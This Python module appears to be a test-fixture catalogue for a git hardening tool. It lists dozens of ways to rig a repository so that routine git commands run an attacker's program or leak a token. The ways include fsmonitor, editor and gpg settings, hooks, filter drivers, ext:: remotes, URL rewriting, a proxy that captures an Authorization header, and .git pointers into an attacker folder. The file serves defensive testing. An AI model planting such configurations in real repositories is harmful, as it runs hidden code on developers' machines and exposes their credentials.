"""Ways in which a work tree makes git run code, or send and read what is not its own.

Each is planted by shell in a repository; `bite` is what plain git is asked to do there, `proof`
shell that succeeds when it has fired. `$FIRE` is a program that leaves `$FIRED`, with the token in
it where it found one; `$EVIL` a folder of the attacker's.
"""

from dataclasses import dataclass
from typing import Literal

PROOF = 'grep -q "$FORGE_TOKEN" "$FIRED"'
FSMONITOR = "[core]\\n\\tfsmonitor = $FIRE\\n"
EVIL_GIT = f'git init -q -b main "$EVIL/git" && printf "{FSMONITOR}" >> "$EVIL/git/.git/config"'
EVIL_REMOTE = 'git init -q --bare "$EVIL/remote.git"'
GOOD_REMOTE = 'git init -q --bare "$EVIL/good.git" && git config remote.origin.url "$EVIL/good.git"'
INCLUDED = f'printf "{FSMONITOR}" > "$EVIL/included"'
MOVED = 'cp -r .git/objects .git/refs .git/index "$EVIL/git/.git/" && mv .git "$EVIL/old"'
PUSH = "git push -q origin HEAD:refs/heads/main"
TAKEN = 'git -C "$EVIL/remote.git" rev-parse -q --verify refs/heads/main'
COMMIT = "git commit -q --allow-empty -m x"
EDIT = "echo edited >> README.md"


@dataclass(frozen=True)
class Plant:
    """`place`: in the repository's own files, in the tree that is committed, or around them."""

    name: str
    plant: str
    bite: str
    proof: str = PROOF
    place: Literal["git", "tree", "dot-git"] = "git"


def setting(*pairs: str) -> str:
    """Settings in the repository's own file."""
    return " && ".join(f"git config {pair}" for pair in pairs)


def hook(name: str) -> str:
    return f'cp "$FIRE" .git/hooks/{name}'


def attribute(line: str) -> str:
    return f'echo "{line}" >> .gitattributes'


def driver(key: str, attributes: str) -> str:
    return f"{setting(f'{key} $FIRE')} && {attribute(attributes)}"


PLANTS = (
    # programs that settings name
    Plant("fsmonitor", setting("core.fsmonitor $FIRE"), "git status"),
    Plant("fsmonitor by diff", setting("core.fsmonitor $FIRE"), "git diff"),
    Plant("editor", setting("core.editor $FIRE"), "git commit -q --allow-empty"),
    Plant("sequence editor", setting("sequence.editor $FIRE"), "git rebase -q -i --root"),
    Plant("ssh command", setting("core.sshCommand $FIRE"), "git ls-remote ssh://localhost/x"),
    Plant("git proxy", setting("core.gitProxy $FIRE"), "git ls-remote git://localhost/x"),
    Plant(
        "credential helper",
        setting("credential.helper $FIRE"),
        "printf 'protocol=https\\nhost=localhost\\n\\n' | git credential fill",
    ),
    Plant(
        "ask for a password",
        setting("core.askPass $FIRE"),
        "printf 'protocol=https\\nhost=localhost\\n\\n' | git credential fill",
    ),
    Plant("signature", setting("gpg.program $FIRE", "commit.gpgSign true"), COMMIT),
    Plant("tag signature", setting("gpg.program $FIRE", "tag.gpgSign true"), "git tag -m x v1"),
    Plant(
        "certificate signature",
        setting("gpg.x509.program $FIRE", "gpg.format x509", "commit.gpgSign true"),
        COMMIT,
    ),
    Plant(
        "signing key's command",
        setting("gpg.ssh.defaultKeyCommand $FIRE", "gpg.format ssh", "commit.gpgSign true"),
        COMMIT,
    ),
    Plant(
        "signature that is shown",
        setting("gpg.program $FIRE", "log.showSignature true")
        + ' && git update-ref refs/heads/main "$(git cat-file commit HEAD | '
        "sed '/^committer/a gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n "
        "-----END PGP SIGNATURE-----' | git hash-object -t commit -w --stdin)\"",
        "git log -1",
    ),
    Plant("trailer", setting("trailer.x.command $FIRE"), f"{COMMIT} --trailer x=y"),
    Plant("alias", setting("alias.st !$FIRE"), "git st"),
    Plant("difftool", setting("difftool.x.cmd $FIRE"), f"{EDIT}; git difftool -y -t x"),
    # drivers that attributes call
    Plant("clean filter", driver("filter.x.clean", "* filter=x"), "git add -A", place="tree"),
    Plant(
        "smudge filter",
        driver("filter.x.smudge", "* filter=x"),
        "rm README.md; git checkout -q -- README.md",
        place="tree",
    ),
    Plant("process filter", driver("filter.x.process", "* filter=x"), "git add -A", place="tree"),
    Plant("text conversion", driver("diff.x.textconv", "* diff=x"), f"{EDIT}; git diff"),
    Plant("diff driver", driver("diff.x.command", "* diff=x"), f"{EDIT}; git diff"),
    Plant("external diff", setting("diff.external $FIRE"), f"{EDIT}; git diff"),
    Plant(
        "merge driver",
        driver("merge.x.driver", "* merge=x"),
        "git checkout -q -b b; echo b > README.md; git commit -qam b; git checkout -q main; "
        "echo c > README.md; git commit -qam c; git merge -q b",
    ),
    Plant(
        "attributes elsewhere",
        'echo "* filter=x" > "$EVIL/attributes" && '
        + setting("core.attributesFile $EVIL/attributes", "filter.x.clean $FIRE"),
        "git add -A",
    ),
    # hooks
    Plant(
        "hooks elsewhere",
        f'{setting("core.hooksPath $EVIL")} && cp "$FIRE" "$EVIL/pre-commit"',
        COMMIT,
    ),
    Plant("pre-commit", hook("pre-commit"), COMMIT),
    Plant("prepare-commit-msg", hook("prepare-commit-msg"), COMMIT),
    Plant("commit-msg", hook("commit-msg"), COMMIT),
    Plant("post-commit", hook("post-commit"), COMMIT),
    Plant("post-checkout", hook("post-checkout"), "git checkout -q -b other"),
    Plant("post-index-change", hook("post-index-change"), f"{EDIT}; git add -A"),
    Plant(
        "reference-transaction", hook("reference-transaction"), "git update-ref refs/heads/b HEAD"
    ),
    Plant(
        "applypatch-msg",
        hook("applypatch-msg"),
        f"{EDIT}; git commit -qam e; git format-patch -q -1; git reset -q --hard HEAD^; "
        "git am -q 0001*",
    ),
    Plant("pre-push", f"{GOOD_REMOTE} && {hook('pre-push')}", PUSH),
    Plant(
        "update hook of the target",
        f'{GOOD_REMOTE} && cp "$FIRE" "$EVIL/good.git/hooks/update"',
        PUSH,
    ),
    # remotes
    Plant(
        "remote that is a program",
        setting("remote.origin.url ext::$FIRE", "protocol.ext.allow always"),
        "git fetch -q origin",
    ),
    Plant(
        "push to a program",
        f"{GOOD_REMOTE} && "
        + setting("remote.origin.pushurl ext::$FIRE", "protocol.ext.allow always"),
        PUSH,
    ),
    Plant(
        "remote's upload-pack",
        f"{GOOD_REMOTE} && {setting('remote.origin.uploadpack $FIRE')}",
        "git fetch -q origin",
    ),
    Plant(
        "remote's receive-pack",
        f"{GOOD_REMOTE} && {setting('remote.origin.receivepack $FIRE')}",
        PUSH,
    ),
    Plant(
        "missing objects fetched from elsewhere",
        setting(
            "remote.origin.url ext::$FIRE",
            "protocol.ext.allow always",
            "remote.origin.promisor true",
            "extensions.partialClone origin",
        )
        + " && blob=$(git rev-parse HEAD:README.md | sed 's,..,&/,') && rm -f .git/objects/$blob",
        "git show HEAD:README.md",
    ),
    Plant(
        "another address instead",
        f"{EVIL_REMOTE} && {GOOD_REMOTE} && "
        + setting("url.$EVIL/remote.git.insteadOf $EVIL/good.git"),
        PUSH,
        TAKEN,
    ),
    Plant(
        "another address to push to",
        f"{EVIL_REMOTE} && {GOOD_REMOTE} && {setting('remote.origin.pushurl $EVIL/remote.git')}",
        PUSH,
        TAKEN,
    ),
    Plant(
        "proxy",
        setting("http.proxy $PROXY"),
        'git -c http.extraHeader="Authorization: $FORGE_TOKEN" ls-remote http://localhost:9/x',
    ),
    Plant(
        "submodule's update",
        "git config submodule.sub.update '!$FIRE' && git config submodule.sub.url . && "
        "printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./\\n' > .gitmodules && "
        "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
        f"git clone -q . sub; git -C sub {COMMIT[4:]}; git submodule update",
    ),
    # where git finds its settings
    Plant(
        "included settings", f"{INCLUDED} && {setting('include.path $EVIL/included')}", "git status"
    ),
    Plant(
        "settings included by folder",
        f"{INCLUDED} && {setting('includeIf.gitdir:/.path $EVIL/included')}",
        "git status",
    ),
    Plant(
        "settings of a work tree",
        f"{setting('extensions.worktreeConfig true')} && "
        f'printf "{FSMONITOR}" > .git/config.worktree',
        "git status",
    ),
    Plant(
        "common folder elsewhere",
        f'{EVIL_GIT} && cp -r .git/objects .git/refs "$EVIL/git/.git/" && '
        'echo "$EVIL/git/.git" > .git/commondir',
        "git status",
        place="dot-git",
    ),
    Plant(
        ".git as a file",
        f'{EVIL_GIT} && {MOVED} && echo "gitdir: $EVIL/git/.git" > .git',
        "git status",
        place="dot-git",
    ),
    Plant(
        ".git as a link",
        f'{EVIL_GIT} && {MOVED} && ln -s "$EVIL/git/.git" .git',
        "git status",
        place="dot-git",
    ),
    Plant(
        "nested repository",
        f'git init -q sub && git -C sub {COMMIT[4:]} && printf "{FSMONITOR}" >> sub/.git/config && '
        "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub",
        "git status",
    ),
    # what is not the repository's own
    Plant(
        "work tree elsewhere",
        'mkdir "$EVIL/host" && echo "$FORGE_TOKEN" > "$EVIL/host/secret" && '
        + setting("core.worktree $EVIL/host"),
        "git add -A; git commit -q -m x",
        "git show HEAD:secret",
    ),
    Plant(
        "objects elsewhere",
        f'{EVIL_REMOTE} && echo "$FORGE_TOKEN" | '
        'git -C "$EVIL/remote.git" hash-object -w --stdin > "$EVIL/sha" && '
        'echo "$EVIL/remote.git/objects" > .git/objects/info/alternates',
        'git update-index --add --cacheinfo 100644,$(cat "$EVIL/sha"),secret; git commit -q -m x',
        "git show HEAD:secret",
    ),
)
